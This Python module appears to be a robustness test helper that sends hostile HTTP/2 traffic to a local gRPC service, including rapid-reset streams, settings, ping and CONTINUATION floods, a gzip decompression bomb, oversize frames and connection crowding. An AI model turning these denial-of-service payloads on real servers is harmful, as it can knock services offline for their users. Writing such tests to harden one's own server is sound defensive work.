"""What a hostile client sends to an HTTP/2 port, as bytes, and how it is sent."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import random
import socket
import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import ssl
    from collections.abc import Iterator

SERVICE = "/lorafleet.v1alpha1.SidecarService/"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2 (RFC 9113, 4.1)."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)


def field(name: str, value: str) -> bytes:
    """One header field, neither compressed nor remembered (RFC 7541, 6.2.2)."""
    parts = (each.encode() for each in (name, value))
    return b"\0" + b"".join(bytes([len(part)]) + part for part in parts)


def request(method: str = "ListAdapters", **more: str) -> bytes:
    """The head of a call."""
    fields = {
        ":method": "POST", ":scheme": "https", ":path": SERVICE + method, ":authority": "x",
        "content-type": "application/grpc", "te": "trailers", **more,
    }  # fmt: skip
    return b"".join(field(name.replace("_", "-"), value) for name, value in fields.items())


def streams(first: int, count: int, after: bytes = b"") -> Iterator[bytes]:
    """Calls that are begun; `after` is what follows each head, with its stream."""
    head = request()
    for number in range(first, first + 2 * count, 2):
        yield frame(HEADERS, END_HEADERS, number, head)
        if after:
            yield frame(RST, 0, number, after)


def message(payload: bytes, *, compressed: bool = False) -> bytes:
    """A gRPC message with its length."""
    return struct.pack(">BI", compressed, len(payload)) + payload


def pieces(stream: int, payload: bytes) -> Iterator[bytes]:
    """DATA frames."""
    for at in range(0, len(payload), 16_000):
        yield frame(DATA, 0, stream, payload[at : at + 16_000])


def _noise(size: int) -> bytes:
    return random.Random(size).randbytes(size)


def attacks() -> dict[str, list[bytes]]:
    """What is written after the preface, by the attack's name."""
    begun = frame(HEADERS, END_HEADERS, 1, request("LoadAdapter"))
    big = frame(HEADERS, END_HEADERS, 1, request("LoadAdapter", grpc_encoding="gzip"))
    bomb = gzip.compress(bytes(256 << 20), 1)
    return {
        "streams begun and broken off": list(streams(1, 30_000, b"\0\0\0\x08")),
        "streams begun": list(streams(1, 30_000)),
        "settings": [frame(SETTINGS)] * 100_000,
        "settings that change": [frame(SETTINGS, payload=struct.pack(">HI", 4, n)) for n in range(50_000)],
        "pings": [frame(PING, payload=bytes(8))] * 100_000,
        "continuations": [
            frame(HEADERS, END_STREAM, 1, request()),
            *(frame(CONTINUATION, 0, 1, field(f"x-{n}", "v" * 100) * 100) for n in range(2000)),
        ],
        "empty continuations": [
            frame(HEADERS, 0, 1, request()), *[frame(CONTINUATION, 0, 1)] * 50_000,
        ],
        "window updates": [frame(WINDOW, payload=struct.pack(">I", 1))] * 100_000,
        "a message of four gigabytes": [begun, *pieces(1, message(b"")[:1] + b"\xff" * 4 + bytes(8 << 20))],
        "a decompression bomb": [big, *pieces(1, message(bomb, compressed=True)), frame(DATA, END_STREAM, 1)],
        "messages that are no protobuf": [
            part
            for number in range(1, 2001, 2)
            for part in (
                frame(HEADERS, END_HEADERS, number, request("LoadAdapter")),
                frame(DATA, END_STREAM, number, message(_noise(number % 200))),
            )
        ],
        "noise instead of frames": [_noise(1 << 20)],
        "a frame of sixteen megabytes": [b"\xff\xff\xff\0\0\0\0\0\1", *[bytes(1 << 16)] * 256],
        "a head that cannot be decoded": [frame(HEADERS, END_HEADERS, 1, b"\x7f\xff\xff\xff\xff\xff")],
    }  # fmt: skip


async def attack(port: int, tls: ssl.SSLContext | None, writes: list[bytes]) -> int:
    """Write it all after the preface, as long as the other side lets us; return how much it took."""
    name = "localhost" if tls else None
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=tls, server_hostname=name)

    async def read() -> None:
        with contextlib.suppress(OSError):
            while await reader.read(1 << 16):
                pass

    reading = asyncio.create_task(read())
    sent = 0
    with contextlib.suppress(OSError):
        writer.write(PREFACE)
        for at in range(0, len(writes), 64):
            if reading.done():
                break
            part = b"".join(writes[at : at + 64])
            writer.write(part)
            sent += len(part)
            await asyncio.wait_for(writer.drain(), 20)
            await asyncio.sleep(0)
        await asyncio.sleep(0.1)
    reading.cancel()
    writer.transport.abort()
    return sent


async def crowd(port: int, count: int, opening: bytes = b"") -> list[socket.socket]:
    """Open `count` connections that say no more than `opening` and read nothing."""
    held = []
    for at in range(0, count, 100):
        some = [socket.socket() for _ in range(min(100, count - at))]
        for each in some:
            each.setblocking(False)
            each.connect_ex(("127.0.0.1", port))
        await asyncio.sleep(0.01)
        for each in some:
            with contextlib.suppress(OSError):  # not let in, or hung up on already
                each.send(opening)
        held += some
    return held


def hang_up(held: list[socket.socket]) -> None:
    """Close a crowd."""
    for each in held:
        each.close()
